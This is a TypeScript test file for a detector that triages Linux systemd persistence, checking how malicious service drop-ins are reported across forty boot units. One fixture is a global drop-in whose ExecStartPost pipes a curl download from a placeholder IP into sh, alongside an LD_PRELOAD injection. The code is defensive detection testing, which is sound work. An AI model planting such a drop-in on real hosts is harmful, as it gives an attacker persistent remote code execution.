import { describe, expect, it } from 'vitest';
import { BUILT_IN_RULES } from '../../main/detect/built-in-rules.ts';
import { loadBuiltInRules, rulesFor } from '../../main/detect/rule-set.ts';
import { memoryEvidence } from '../../main/evidence/memory-evidence.ts';
import { runTriage } from '../support/run-triage.ts';
import { type FileSpec, unixTree } from '../support/unix-fixture.ts';

const RULES = rulesFor(loadBuiltInRules(BUILT_IN_RULES), 'linux');
const LIB = '/usr/lib/systemd/system';
const ETC = '/etc/systemd/system';
const UNITS = 40;

/** A root with forty units of a package that start at boot, and these files besides. */
async function findingsWith(more: Readonly<Record<string, FileSpec>>) {
  const files: Record<string, FileSpec> = { '/usr/sbin/agent': { content: 'ELF', mode: '0755' } };
  for (let at = 0; at < UNITS; at += 1) {
    const path = `${LIB}/agent-number${at}.service`;
    files[path] =
      `[Unit]\nDescription=Agent of part ${at}\n[Service]\nExecStart=/usr/sbin/agent ${at}\n[Install]\nWantedBy=multi-user.target\n`;
    files[`${ETC}/multi-user.target.wants/agent-number${at}.service`] = { link: path };
  }
  const packages = { agent: Object.keys(files).filter((path) => path.startsWith('/usr/')) };
  const tree = unixTree('linux', { name: 'forty', files: { ...files, ...more }, packages });
  const result = await runTriage(memoryEvidence(tree), RULES);
  return {
    result,
    findings: result.findings.filter(({ level }) => level !== 'informational'),
  };
}

describe('a drop-in for every service', () => {
  it('is found once, on a record of its own, however many units it counts for', async () => {
    const { findings, result } = await findingsWith({
      [`${ETC}/service.d/10-all.conf`]:
        '[Service]\nExecStartPost=/bin/sh -c "curl http://203.0.113.7/x | sh"\nEnvironment=LD_PRELOAD=/var/tmp/x.so\n',
    });
    expect([...new Set(findings.map(({ subject }) => subject.name))]).toEqual(['service.d/10-all.conf']);
    const rules = findings.map(({ rule }) => rule);
    expect(rules).toEqual(
      expect.arrayContaining(['dropin_of_unit_type', 'unit_command_pipes_download_to_shell']),
    );
    // The inventory still tells what each unit would run.
    const unit = result.services.find(({ name }) => name === 'agent-number7.service');
    expect(unit?.payloads.some(({ raw }) => raw.includes('203.0.113.7'))).toBe(true);
    expect(unit?.systemd?.dropIns).toEqual([{ path: `${ETC}/service.d/10-all.conf`, level: 'type' }]);
  });

  it('that takes the command away does not hide what a unit is', async () => {
    const { findings } = await findingsWith({
      [`${ETC}/service.d/10-all.conf`]: '[Service]\nExecStart=\nExecStart=/usr/local/bin/x\n',
    });
    expect([...new Set(findings.map(({ subject }) => subject.name))]).toEqual(['service.d/10-all.conf']);
  });

  it('leaves what a unit has of its own to be found', async () => {
    const { findings } = await findingsWith({
      [`${ETC}/service.d/10-all.conf`]: '[Service]\nTimeoutStopSec=5\n',
      [`${ETC}/agent-number3.service.d/x.conf`]: '[Service]\nExecStartPost=/bin/sh -c "date > /var/lib/x"\n',
    });
    expect(findings.map(({ rule, subject }) => [rule, subject.name])).toEqual([
      ['dropin_adds_shell_code', 'agent-number3.service'],
    ]);
    expect(findings[0]?.why).toContain('date > /var/lib/x');
  });

  it('of a prefix of names is found once, too', async () => {
    const { findings } = await findingsWith({
      [`${ETC}/agent-.service.d/x.conf`]: '[Service]\nExecStartPre=/var/tmp/x\n',
      '/var/tmp/x': { content: 'ELF', mode: '0755' },
    });
    expect([...new Set(findings.map(({ subject }) => subject.name))]).toEqual(['agent-.service.d/x.conf']);
  });
});
